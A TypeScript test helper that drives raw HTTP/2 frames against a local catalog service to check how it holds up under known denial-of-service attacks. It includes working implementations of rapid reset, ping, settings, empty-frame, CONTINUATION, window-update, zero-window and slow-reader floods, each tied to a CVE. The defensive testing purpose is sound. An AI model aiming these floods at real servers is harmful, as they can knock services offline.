/**
 * HTTP/2 attacks on a real service process, for the tests (http2_attacks_test.ts) and the bench
 * (http2_attacks_bench.ts): a raw HTTP/2 peer that writes frames by hand (floods, resets, shut windows, a
 * socket it never reads), a well-behaved client calling the same process on another connection meanwhile,
 * and what the process's /proc and /metrics said before, during and after.
 */
import { create, toBinary } from "@bufbuild/protobuf";
import {
  CatalogService,
  GetProductRequestSchema,
  ListProductsRequestSchema,
} from "@tailwatch/proto/catalog/v1";
import { createClient } from "@tailwatch/grpc";
import { startServiceProcess } from "@tailwatch/load";
import {
  CLIENT_PREFACE,
  createHpackEncoder,
  ErrorCode,
  errorCodeName,
  Flag,
  FrameType,
  Setting,
} from "@tailwatch/http2";
import type { ClientReport } from "./h2_client.ts";

export { type ClientReport, ErrorCode, errorCodeName };

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** One frame: 9 bytes of header and the payload. */
export function frame(
  type: number,
  flags: number,
  streamId: number,
  payload: Uint8Array = new Uint8Array(0),
): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  bytes[0] = payload.length >>> 16;
  bytes[1] = (payload.length >>> 8) & 0xff;
  bytes[2] = payload.length & 0xff;
  bytes[3] = type;
  bytes[4] = flags;
  new DataView(bytes.buffer).setUint32(5, streamId & 0x7fffffff);
  bytes.set(payload, 9);
  return bytes;
}

function u32(...values: number[]): Uint8Array {
  const bytes = new Uint8Array(4 * values.length);
  const view = new DataView(bytes.buffer);
  values.forEach((value, i) => view.setUint32(4 * i, value));
  return bytes;
}

export function settingsFrame(settings: Array<[number, number]>): Uint8Array {
  const payload = new Uint8Array(6 * settings.length);
  const view = new DataView(payload.buffer);
  settings.forEach(([id, value], i) => {
    view.setUint16(6 * i, id);
    view.setUint32(6 * i + 2, value);
  });
  return frame(FrameType.SETTINGS, 0, 0, payload);
}

export const pingFrame = (n: number) => frame(FrameType.PING, 0, 0, u32(n, n));
export const rstFrame = (streamId: number, code = ErrorCode.CANCEL) =>
  frame(FrameType.RST_STREAM, 0, streamId, u32(code));
export const windowUpdateFrame = (streamId: number, increment: number) =>
  frame(FrameType.WINDOW_UPDATE, 0, streamId, u32(increment));

/** Many frames in one buffer (one write). */
export function concat(parts: Uint8Array[]): Uint8Array {
  const bytes = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    bytes.set(part, at);
    at += part.length;
  }
  return bytes;
}

/** A gRPC message: the 5-byte prefix and the bytes. */
function grpcMessage(bytes: Uint8Array): Uint8Array {
  const framed = new Uint8Array(5 + bytes.length);
  new DataView(framed.buffer).setUint32(1, bytes.length);
  framed.set(bytes, 5);
  return framed;
}

export const GET_PRODUCT = grpcMessage(
  toBinary(GetProductRequestSchema, create(GetProductRequestSchema, { productId: "kibble-salmon-2kg" })),
);
export const LIST_PRODUCTS = grpcMessage(
  toBinary(ListProductsRequestSchema, create(ListProductsRequestSchema, { pageSize: 100 })),
);

export interface GoawaySeen {
  lastStreamId: number;
  code: number;
  debug: string;
}

/**
 * A hand-driven HTTP/2 client connection. It reads only when told to (`startReading`): a flood from a peer
 * that never reads is a connection that never calls it.
 */
export class RawPeer {
  readonly encoder = createHpackEncoder();
  nextStreamId = 1;
  goaway: GoawaySeen | undefined = undefined;
  bytesRead = 0;
  framesRead = 0;
  /** Streams whose answer ended (END_STREAM seen). */
  readonly answered = new Set<number>();
  /** Why reading ended: "eof", or the error. */
  endedBy: string | undefined = undefined;
  #leftover = new Uint8Array(0);
  #reading: Promise<void> | undefined = undefined;
  #ackSettings = true;

  private constructor(readonly conn: Deno.TcpConn) {}

  /** Connects; with `handshake`, sends the preface and `settings`, reads the server's SETTINGS and acks them. */
  static async open(
    port: number,
    options: { handshake?: boolean; settings?: Array<[number, number]>; windowUpdate?: number } = {},
  ): Promise<RawPeer> {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    conn.setNoDelay(true);
    const peer = new RawPeer(conn);
    if (options.handshake !== false) {
      await peer.write(concat([
        CLIENT_PREFACE,
        settingsFrame(options.settings ?? []),
        ...(options.windowUpdate ? [windowUpdateFrame(0, options.windowUpdate)] : []),
      ]));
      await peer.readUntil((type, flags) => type === FrameType.SETTINGS && !(flags & Flag.ACK), 5000);
      await peer.write(frame(FrameType.SETTINGS, Flag.ACK, 0));
    }
    return peer;
  }

  /** Writes all of `bytes`; false when that took longer than `timeoutMs` (the write goes on meanwhile). */
  async write(bytes: Uint8Array, timeoutMs = 10_000): Promise<boolean> {
    const writing = (async () => {
      let sent = 0;
      while (sent < bytes.length) sent += await this.conn.write(bytes.subarray(sent));
    })();
    let timer: ReturnType<typeof setTimeout> | undefined;
    const timedOut = new Promise<boolean>((resolve) => timer = setTimeout(() => resolve(false), timeoutMs));
    try {
      return await Promise.race([writing.then(() => true), timedOut]);
    } finally {
      clearTimeout(timer);
      writing.catch(() => {});
    }
  }

  /** HEADERS (one frame, END_HEADERS) of a gRPC request to `path`. */
  headers(streamId: number, path: string, endStream = false): Uint8Array {
    const block = this.encoder.encode([
      ":method",
      "POST",
      ":scheme",
      "http",
      ":path",
      path,
      ":authority",
      "127.0.0.1",
      "content-type",
      "application/grpc",
      "te",
      "trailers",
    ]);
    return frame(
      FrameType.HEADERS,
      Flag.END_HEADERS | (endStream ? Flag.END_STREAM : 0),
      streamId,
      block.slice(),
    );
  }

  /** A whole unary call on a new stream: HEADERS and DATA with END_STREAM. Returns its frames. */
  call(
    path = "/catalog.v1.CatalogService/GetProduct",
    message = GET_PRODUCT,
  ): { streamId: number; bytes: Uint8Array } {
    const streamId = this.nextStreamId;
    this.nextStreamId += 2;
    const bytes = concat([
      this.headers(streamId, path),
      frame(FrameType.DATA, Flag.END_STREAM, streamId, message),
    ]);
    return { streamId, bytes };
  }

  /** Parses frames from `bytes` (after what was left over), calling `onFrame`. */
  #parse(
    bytes: Uint8Array,
    onFrame: (type: number, flags: number, streamId: number, payload: Uint8Array) => void,
  ) {
    let buf = bytes;
    if (this.#leftover.length > 0) buf = concat([this.#leftover, bytes]);
    let pos = 0;
    while (buf.length - pos >= 9) {
      const length = (buf[pos] << 16) | (buf[pos + 1] << 8) | buf[pos + 2];
      if (buf.length - pos < 9 + length) break;
      const type = buf[pos + 3];
      const flags = buf[pos + 4];
      const streamId = new DataView(buf.buffer, buf.byteOffset + pos + 5, 4).getUint32(0) & 0x7fffffff;
      const payload = buf.subarray(pos + 9, pos + 9 + length);
      pos += 9 + length;
      this.framesRead++;
      if (type === FrameType.GOAWAY && !this.goaway) {
        const view = new DataView(payload.buffer, payload.byteOffset, payload.length);
        this.goaway = {
          lastStreamId: view.getUint32(0) & 0x7fffffff,
          code: view.getUint32(4),
          debug: new TextDecoder().decode(payload.subarray(8)),
        };
      }
      if ((type === FrameType.HEADERS || type === FrameType.DATA) && (flags & Flag.END_STREAM)) {
        this.answered.add(streamId);
      }
      onFrame(type, flags, streamId, payload);
    }
    this.#leftover = buf.slice(pos);
  }

  /** Reads (during the handshake) until a frame matches. */
  async readUntil(match: (type: number, flags: number) => boolean, timeoutMs: number): Promise<void> {
    const deadline = Date.now() + timeoutMs;
    const buffer = new Uint8Array(64 * 1024);
    let found = false;
    while (!found) {
      if (Date.now() > deadline) throw new Error("no such frame from the server in time");
      const n = await this.conn.read(buffer);
      if (n === null) throw new Error("the server closed the connection during the handshake");
      this.bytesRead += n;
      this.#parse(buffer.subarray(0, n), (type, flags) => found ||= match(type, flags));
    }
  }

  /**
   * Reads everything from now on in the background (acknowledging the server's SETTINGS and PINGs as a
   * client must, unless told not to), until the server closes the connection.
   */
  startReading(options: { ackSettings?: boolean } = {}): Promise<void> {
    this.#ackSettings = options.ackSettings ?? true;
    this.#reading ??= (async () => {
      const buffer = new Uint8Array(256 * 1024);
      try {
        for (;;) {
          const n = await this.conn.read(buffer);
          if (n === null) {
            this.endedBy = "eof";
            return;
          }
          this.bytesRead += n;
          this.#parse(buffer.subarray(0, n), (type, flags) => {
            if (type === FrameType.SETTINGS && !(flags & Flag.ACK) && this.#ackSettings) {
              this.write(frame(FrameType.SETTINGS, Flag.ACK, 0)).catch(() => {});
            }
          });
        }
      } catch (error) {
        this.endedBy = String(error);
      }
    })();
    return this.#reading;
  }

  /** Resolves true once the server closed the connection (read to its end), false after `timeoutMs`. */
  async closedWithin(timeoutMs: number): Promise<boolean> {
    const reading = this.startReading({ ackSettings: this.#ackSettings });
    return await Promise.race([reading.then(() => true), sleep(timeoutMs).then(() => false)]);
  }

  close(): void {
    try {
      this.conn.close();
    } catch {
      // closed already
    }
  }
}

/** A running catalog process (events off) and what can be read about it from outside. */
export interface Target extends AsyncDisposable {
  grpcPort: number;
  httpPort: number;
  pid: number;
  /** Resident memory now, from /proc, in bytes. */
  rss(): number;
  /** One sample of /metrics: every series as "name{labels}" → value. */
  metrics(): Promise<Map<string, number>>;
  log(): Promise<string>;
}

export async function startTarget(env: Record<string, string> = {}): Promise<Target> {
  const logDir = await Deno.makeTempDir({ prefix: "tailwatch-h2-" });
  const service = await startServiceProcess("catalog", { EVENTS_ENABLED: "false", ...env }, logDir);
  return {
    grpcPort: service.grpcPort,
    httpPort: service.httpPort,
    pid: service.process.pid,
    rss() {
      const kb = /^VmRSS:\s+(\d+)\s+kB/m.exec(Deno.readTextFileSync(`/proc/${service.process.pid}/status`))
        ?.[1];
      return Number(kb) * 1024;
    },
    async metrics() {
      const text = await service.metrics();
      const values = new Map<string, number>();
      for (const line of text.split("\n")) {
        if (line.startsWith("#") || line.trim() === "") continue;
        const at = line.lastIndexOf(" ");
        values.set(line.slice(0, at), Number(line.slice(at + 1)));
      }
      return values;
    },
    log: () => service.process.log(),
    async [Symbol.asyncDispose]() {
      await service[Symbol.asyncDispose]();
      await Deno.remove(logDir, { recursive: true }).catch(() => {});
    },
  };
}

/**
 * A well-behaved client on its own connection, in a process of its own (h2_client.ts): GetProduct every
 * `intervalMs`. Its latencies are reported, never asserted (the machine is shared).
 */
export async function wellBehavedClient(port: number, intervalMs = 10) {
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "-A",
      new URL("./h2_client.ts", import.meta.url).pathname,
      String(port),
      String(intervalMs),
    ],
    stdin: "piped",
    stdout: "piped",
    stderr: "inherit",
  }).spawn();
  const writer = child.stdin.getWriter();
  const lines = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let buffered = "";
  const ask = async (command: string) => {
    await writer.write(new TextEncoder().encode(command + "\n"));
    for (;;) {
      const newline = buffered.indexOf("\n");
      if (newline >= 0) {
        const line = buffered.slice(0, newline);
        buffered = buffered.slice(newline + 1);
        return JSON.parse(line);
      }
      const { value, done } = await lines.read();
      if (done) throw new Error("the well-behaved client exited");
      buffered += value;
    }
  };
  await ask("mark"); // it is up and calling
  return {
    /** Starts a new window of calls. */
    mark: async () => void await ask("mark"),
    /** The calls of the window so far. */
    report: async (): Promise<ClientReport> => await ask("report"),
    /** The calls of the window, and the client's end. */
    async stop(): Promise<ClientReport> {
      const report = await ask("stop");
      await writer.close().catch(() => {});
      await lines.cancel().catch(() => {});
      await child.status;
      return report;
    },
  };
}

/** The largest values the process's gauges (and RSS) reached while `during` ran, sampled every 50 ms. */
export async function sampleGauges<T>(target: Target, during: Promise<T>): Promise<{
  result: T;
  maxOutputBytes: number;
  maxPendingBytes: number;
  maxQueuedControlFrames: number;
  maxRss: number;
}> {
  const max = { maxOutputBytes: 0, maxPendingBytes: 0, maxQueuedControlFrames: 0, maxRss: 0 };
  let done = false;
  const sampling = (async () => {
    while (!done) {
      try {
        const values = await target.metrics();
        max.maxOutputBytes = Math.max(max.maxOutputBytes, values.get("http2_output_buffered_bytes") ?? 0);
        max.maxPendingBytes = Math.max(max.maxPendingBytes, values.get("http2_pending_data_bytes") ?? 0);
        max.maxQueuedControlFrames = Math.max(
          max.maxQueuedControlFrames,
          values.get("http2_queued_control_frames") ?? 0,
        );
        max.maxRss = Math.max(max.maxRss, target.rss());
      } catch {
        // the process may be busy: the next sample
      }
      await sleep(50);
    }
  })();
  try {
    const result = await during;
    return { result, ...max };
  } finally {
    done = true;
    await sampling;
  }
}

/**
 * Products whose listing is large: `count` products of 2000-character descriptions, so that one
 * ListProducts of 100 answers about 220 KB (what a slow reader needs to fill its socket quickly).
 */
export async function addLargeProducts(target: Target, count = 100): Promise<void> {
  const client = createClient(CatalogService, `127.0.0.1:${target.grpcPort}`);
  try {
    for (let i = 0; i < count; i++) {
      await client.createProduct({
        name: `Large product ${i}`,
        description: "x".repeat(2000),
        priceCents: 100n,
        currency: "EUR",
        stock: 1,
      });
    }
  } finally {
    client.close();
  }
}

/** `http2_connections_closed_total{reason="<reason>"}` now. */
export async function closedFor(target: Target, reason: string): Promise<number> {
  return (await target.metrics()).get(`http2_connections_closed_total{reason="${reason}"}`) ?? 0;
}

/**
 * Watches `http2_connections_closed_total` (all reasons): `gaveUp()` turns true once it grew, i.e. the
 * server closed a connection for a limit. What a peer that never reads waits for before it reads.
 */
export async function watchCloses(target: Target) {
  const total = async () => {
    let sum = 0;
    for (const [series, value] of await target.metrics()) {
      if (series.startsWith("http2_connections_closed_total")) sum += value;
    }
    return sum;
  };
  const before = await total();
  let changed = false;
  let watching = true;
  const polling = (async () => {
    while (watching && !changed) {
      await sleep(100);
      try {
        changed = await total() > before;
      } catch {
        // busy: the next poll
      }
    }
  })();
  return {
    gaveUp: () => changed,
    async stop() {
      watching = false;
      await polling;
    },
  };
}

// --- the attacks ------------------------------------------------------------------------------------------

/** What one attack did and how its connection ended. */
export interface AttackOutcome {
  /** Frames (or streams) the attacker got in before the connection was closed. */
  sent: number;
  goaway: GoawaySeen | undefined;
  /** The server closed the connection (read to its end). */
  closed: boolean;
  ms: number;
}

/** How long an attack goes on at most, and when to stop early. */
export interface AttackOptions {
  maxMs?: number;
  /** For a peer that never reads: the server gave up on it (watchCloses), so it may read now. */
  gaveUp?: () => boolean;
}

/**
 * `unit` repeated `batch` times per write, until a write stalls (the server stopped reading us), `stop()`
 * says so, or `maxMs`.
 */
/**
 * Writes what `nextBatch` makes (`count` frames or calls each, counted in `sent`) until `maxMs` have passed,
 * `stop()` says so, or a write does not finish within `writeTimeoutMs`; after each write, `pauseMs` (0: a
 * turn for the reader, if any, to see the GOAWAY).
 */
async function flood(
  peer: RawPeer,
  nextBatch: () => Uint8Array,
  count: number,
  maxMs: number,
  stop: () => boolean,
  { writeTimeoutMs = 500, pauseMs = 0 } = {},
) {
  const started = performance.now();
  let sent = 0;
  while (performance.now() - started < maxMs && !stop()) {
    if (!await peer.write(nextBatch(), writeTimeoutMs).catch(() => false)) break;
    sent += count;
    await sleep(pauseMs);
  }
  return { sent, started };
}

/** `count` copies of `unit`, as one write. */
function repeated(unit: Uint8Array, count: number): () => Uint8Array {
  const bytes = concat(Array.from({ length: count }, () => unit));
  return () => bytes;
}

const ended = (peer: RawPeer) => () => peer.goaway !== undefined || peer.endedBy !== undefined;

async function finish(
  peer: RawPeer,
  sent: number,
  started: number,
  closeWithinMs = 15_000,
): Promise<AttackOutcome> {
  const closed = await peer.closedWithin(closeWithinMs);
  peer.close();
  return { sent, goaway: peer.goaway, closed, ms: performance.now() - started };
}

/** CVE-2023-44487: streams opened (a whole call each) and reset at once, in a loop; the attacker reads. */
export async function rapidReset(port: number, { maxMs = 8000 }: AttackOptions = {}): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port);
  void peer.startReading();
  const resets = () =>
    concat(Array.from({ length: 100 }, () => {
      const call = peer.call();
      return concat([call.bytes, rstFrame(call.streamId)]);
    }));
  const { sent, started } = await flood(peer, resets, 100, maxMs, ended(peer), { writeTimeoutMs: 2000 });
  return finish(peer, sent, started);
}

/** CVE-2019-9512: PINGs from a peer that never reads their acknowledgements. */
export async function pingFlood(
  port: number,
  { maxMs = 8000, gaveUp = () => false }: AttackOptions = {},
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port);
  const { sent, started } = await flood(peer, repeated(pingFrame(7), 4096), 4096, maxMs, gaveUp);
  return finish(peer, sent, started);
}

/** CVE-2019-9515: empty SETTINGS frames from a peer that never reads their acknowledgements. */
export async function settingsFlood(
  port: number,
  { maxMs = 8000, gaveUp = () => false }: AttackOptions = {},
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port);
  const { sent, started } = await flood(peer, repeated(settingsFrame([]), 4096), 4096, maxMs, gaveUp);
  return finish(peer, sent, started);
}

/** CVE-2019-9518: a stream opened, then empty DATA frames (no END_STREAM) on it; the attacker reads. */
export async function emptyDataFlood(
  port: number,
  { maxMs = 8000 }: AttackOptions = {},
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port);
  void peer.startReading();
  const streamId = peer.nextStreamId;
  await peer.write(peer.headers(streamId, "/catalog.v1.CatalogService/GetProduct"));
  const { sent, started } = await flood(
    peer,
    repeated(frame(FrameType.DATA, 0, streamId), 4096),
    4096,
    maxMs,
    ended(peer),
  );
  return finish(peer, sent, started);
}

/** CVE-2019-9518 / -9516: a HEADERS fragment of zero bytes, then empty CONTINUATION frames forever. */
export async function emptyContinuationFlood(
  port: number,
  { maxMs = 8000 }: AttackOptions = {},
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port);
  void peer.startReading();
  await peer.write(frame(FrameType.HEADERS, 0, 1));
  const { sent, started } = await flood(
    peer,
    repeated(frame(FrameType.CONTINUATION, 0, 1), 4096),
    4096,
    maxMs,
    ended(peer),
  );
  return finish(peer, sent, started);
}

/** CVE-2019-9516: zero-length header blocks (HEADERS with END_HEADERS and nothing in it), each a new stream. */
export async function emptyHeadersFlood(
  port: number,
  { maxMs = 8000 }: AttackOptions = {},
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port);
  void peer.startReading();
  const headerBlocks = () =>
    concat(Array.from({ length: 1000 }, () => {
      const block = frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, peer.nextStreamId);
      peer.nextStreamId += 2;
      return block;
    }));
  const { sent, started } = await flood(peer, headerBlocks, 1000, maxMs, ended(peer), {
    writeTimeoutMs: 2000,
  });
  return finish(peer, sent, started);
}

/**
 * CVE-2019-9511 (data dribble): streams' windows of 1 byte, and WINDOW_UPDATEs of 1 byte, so that every
 * byte of the answers leaves in a frame of its own; the attacker reads.
 */
export async function tinyWindowUpdates(
  port: number,
  { maxMs = 8000 }: AttackOptions = {},
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port, { settings: [[Setting.INITIAL_WINDOW_SIZE, 1]] });
  void peer.startReading();
  const calls = Array.from(
    { length: 50 },
    () => peer.call("/catalog.v1.CatalogService/ListProducts", LIST_PRODUCTS),
  );
  await peer.write(concat(calls.map((call) => call.bytes)));
  const updates = () =>
    concat(calls.flatMap((call) => [windowUpdateFrame(call.streamId, 1), windowUpdateFrame(0, 1)]));
  const { sent, started } = await flood(peer, updates, calls.length * 2, maxMs, ended(peer), {
    writeTimeoutMs: 2000,
    pauseMs: 1,
  });
  return finish(peer, sent, started);
}

/**
 * CVE-2019-9517: the streams' windows held at zero while many streams ask for answers, which the server
 * must then keep; the attacker reads everything else (it is only its windows that are shut).
 */
export async function zeroWindow(
  port: number,
  { maxMs = 15_000 }: AttackOptions = {},
  streams = 900,
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port, { settings: [[Setting.INITIAL_WINDOW_SIZE, 0]] });
  void peer.startReading();
  const started = performance.now();
  const calls = Array.from(
    { length: streams },
    () => peer.call("/catalog.v1.CatalogService/ListProducts", LIST_PRODUCTS),
  );
  for (let i = 0; i < calls.length; i += 100) {
    await peer.write(concat(calls.slice(i, i + 100).map((call) => call.bytes)));
  }
  return finish(peer, streams, started, maxMs);
}

/**
 * A slow reader: its windows wide open, `calls` ListProducts written (fewer than the stream limit, as a
 * client that keeps to the server's SETTINGS does), then PINGs as long as the server reads them, and
 * nothing ever read. Give it large answers (addLargeProducts) so that they fill the socket. It waits until
 * the server gave up on it (`gaveUp`, at most 30 s) and only then reads, to find how the connection ended.
 */
export async function slowReader(
  port: number,
  { gaveUp = () => false }: AttackOptions = {},
  calls = 200,
): Promise<AttackOutcome> {
  const peer = await RawPeer.open(port, {
    settings: [[Setting.INITIAL_WINDOW_SIZE, 0x7fffffff]],
    windowUpdate: 0x7fffffff - 65_535,
  });
  const started = performance.now();
  for (let sent = 0; sent < calls; sent += 20) {
    const batch = Array.from(
      { length: Math.min(20, calls - sent) },
      () => peer.call("/catalog.v1.CatalogService/ListProducts", LIST_PRODUCTS),
    );
    if (!await peer.write(concat(batch.map((call) => call.bytes)), 2000).catch(() => false)) break;
    await sleep(0);
  }
  // More work for a server that does not stop reading: PINGs, until a write stalls (it stopped).
  const pings = concat(Array.from({ length: 1024 }, (_, i) => pingFrame(i)));
  while (!gaveUp() && performance.now() - started < 30_000) {
    if (!await peer.write(pings, 500).catch(() => false)) break;
    await sleep(20);
  }
  while (!gaveUp() && performance.now() - started < 30_000) await sleep(50);
  return finish(peer, calls, started);
}
